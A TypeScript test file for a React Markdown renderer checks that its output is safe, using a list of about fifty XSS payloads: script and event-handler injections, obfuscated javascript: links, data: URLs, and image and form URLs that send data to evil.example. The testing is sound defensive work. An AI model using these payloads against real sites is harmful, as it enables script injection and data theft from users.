import fc from 'fast-check';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { Markdown } from '../src/markdown/markdown.tsx';
import { destinationOf, safeAddress } from '../src/markdown/safe-url.ts';

function render(text: string, live = false): string {
  return renderToStaticMarkup(createElement(Markdown, { text, live }));
}

/** Tags with their attributes, as a browser would read them; text is not markup, so `<` in it is `&lt;`. */
function tagsOf(html: string): { name: string; attributes: Map<string, string> }[] {
  return [...html.matchAll(/<([a-z][a-z0-9-]*)((?:\s+[^\s=>"]+(?:="[^"]*")?)*)\s*\/?>/gi)].map((tag) => ({
    name: (tag[1] ?? '').toLowerCase(),
    attributes: new Map(
      [...(tag[2] ?? '').matchAll(/([^\s=>"]+)(?:="([^"]*)")?/g)].map((one) => [
        (one[1] ?? '').toLowerCase(),
        one[2] ?? '',
      ]),
    ),
  }));
}

const allowedTags = new Set(
  (
    'a blockquote br button code del div em figcaption figure h1 h2 h3 h4 h5 h6 hr input li ol p path pre rect section span ' +
    'strong sup svg table tbody td th thead tr ul'
  ).split(' '),
);
const allowedAttributes = new Set(
  (
    'alt aria-hidden aria-label aria-live checked class d disabled fill height href readonly rel role rx ry start ' +
    'stroke stroke-linecap stroke-linejoin stroke-width style tabindex target title type viewbox width x xmlns y'
  ).split(' '),
);

function expectHarmless(html: string): void {
  expect(tagsOf(html)).toHaveLength(html.match(/<[a-z!?]/gi)?.length ?? 0);
  for (const { name, attributes } of tagsOf(html)) {
    expect(allowedTags, name).toContain(name);
    for (const [attribute, value] of attributes) {
      expect(allowedAttributes, `${name} ${attribute}`).toContain(attribute);
      // GFM's column alignment is the only style there is.
      if (attribute === 'style') expect(value).toMatch(/^text-align:(left|right|center)$/);
      if (attribute === 'class') expect(value).not.toContain('url(');
    }
    const href = attributes.get('href');
    if (href !== undefined) {
      expect(name).toBe('a');
      expect(href).toMatch(/^(https?:\/\/|mailto:)/);
      expect(attributes.get('rel')).toContain('noopener');
      expect(attributes.get('rel')).toContain('noreferrer');
      expect(attributes.get('target')).toBe('_blank');
    }
  }
}

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<div style="background:url(https://evil.example/p)">x</div>',
  '<form action="https://evil.example"><input name=q><button>go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<!-- --><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A&#x61&#x76&#x61script:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](blob:https://evil.example/1)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/x)',
  '[x](/api/logout)',
  '[x](#main)',
  '[x](https://good.example@evil.example/)',
  '![x](https://evil.example/pixel.png?leak=secret)',
  '![x](//evil.example/pixel.png)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](javascript:alert(1))',
  '![x][1]\n\n[1]: https://evil.example/ref.png',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<https://evil.example/"onmouseover="alert(1)>',
  '[x](https://evil.example "\\"onmouseover=alert(1)")',
  '![" onerror=alert(1) x="](https://evil.example/x.png)',
  '```"onload=alert(1)\nx\n```',
  '```html\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '# <svg onload=alert(1)>',
  '- <img src=x onerror=alert(1)>\n  - <script>alert(1)</script>',
  '> <script>alert(1)</script>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<x onclick=alert(1)>x</x>',
  '**<b onmouseover=alert(1)>x</b>**',
  '<img src="https://evil.example/x.png">',
  '<picture><source srcset="https://evil.example/x.png"></picture>',
  '<video poster="https://evil.example/x.png" src="https://evil.example/v"></video>',
  '$\\href{javascript:alert(1)}{x}$',
];

test.each(attacks)('stays text or goes away: %j', (attack) => {
  for (const text of [attack, `before\n\n${attack}\n\nafter`, `- ${attack}`, `text ${attack} text`]) {
    for (const live of [true, false]) expectHarmless(render(text, live));
  }
});

test('no mixture of attacks and ordinary Markdown gets an active element into the page', () => {
  const piece = fc.oneof(
    fc.constantFrom(...attacks),
    fc.constantFrom(
      '\n',
      '\n\n',
      '  ',
      '- ',
      '> ',
      '# ',
      '|',
      '[',
      '](',
      ')',
      '!',
      '<',
      '>',
      '"',
      "'",
      '`',
      '```',
      '~~~',
      '&lt;',
      '\\',
    ),
    fc.string({ maxLength: 8 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), fc.boolean(), (pieces, live) => {
      expectHarmless(render(pieces.join(''), live));
    }),
    { numRuns: 300 },
  );
});

test('a stream shows what history shows, whatever the block borders', () => {
  for (const text of attacks) {
    const streamed = render(text, true);
    const stored = render(text, false);
    expect(streamed).toBe(stored);
  }
});

test('raw HTML is shown as the text it is', () => {
  expect(render('a <b>bold</b> word')).toContain('a &lt;b&gt;bold&lt;/b&gt; word');
  expect(render('<div class="x">\nhello\n</div>')).toContain('&lt;div class=&quot;x&quot;&gt;');
});

test('an image becomes a placeholder that names its host and fetches nothing', () => {
  const html = render('![a chart](https://evil.example/x.png?leak=1)');
  expect(html).toContain('Image not loaded: a chart');
  expect(html).toContain('evil.example');
  expect(html).not.toContain('leak=1');
  expect(html).not.toContain('<img');
});

test('a link names its real host, whatever its text says', () => {
  const html = render('[https://bank.example](https://evil.example/login)');
  expect(html).toContain('title="Opens evil.example"');
  expect(html).toContain('(opens evil.example in a new tab)');
  expect(render('[x](https://аpple.com/)')).toContain('xn--pple-43d.com');
});

test('ordinary Markdown comes out whole', () => {
  const html = render(
    '## Head\n\nSome **bold**, *soft*, ~~gone~~ and `code`.\n\n1. one\n2. two\n   - nested\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n- [x] done\n\n> quote\n\n```js\nlet x = 1;\n```\n\n[site][1] a@b.example\n\n[1]: https://example.org/path',
  );
  for (const part of [
    '<h2>Head</h2>',
    '<strong>bold</strong>',
    '<em>soft</em>',
    '<del>gone</del>',
    '<code>code</code>',
    '<li>one</li>',
    '<li>nested</li>',
    '<table>',
    'type="checkbox"',
    '<blockquote>',
    'let x = 1;',
    'href="https://example.org/path"',
    'href="mailto:a@b.example"',
  ])
    expect(html).toContain(part);
});

test('hostile nesting neither throws nor hangs', () => {
  const start = performance.now();
  for (const text of [
    '['.repeat(11_000),
    '> '.repeat(600),
    '*a '.repeat(3_900),
    '`'.repeat(11_000),
    '- '.repeat(400),
    '![['.repeat(3_900),
    `${'|a'.repeat(3000)}|\n`,
    '<'.repeat(11_000),
  ])
    expectHarmless(render(text));
  expect(performance.now() - start).toBeLessThan(12_000);
});

test('only http, https and mailto addresses are safe', () => {
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string(),
        fc.constantFrom(...attacks),
        fc
          .tuple(fc.constantFrom('http://', 'HTTPS:', 'mailto:', 'javascript:', 'data:', '\u0000https://'), fc.string())
          .map((parts) => parts.join('')),
      ),
      (raw) => {
        const address = safeAddress(raw);
        if (address) expect(['http:', 'https:', 'mailto:']).toContain(address.protocol);
      },
    ),
  );
  expect(safeAddress('https://user:pass@evil.example/')).toBeNull();
  expect(destinationOf(safeAddress('https://example.org:8443/x') as URL)).toBe('example.org:8443');
  expect(destinationOf(safeAddress('mailto:a@b.example') as URL)).toBe('a@b.example');
});
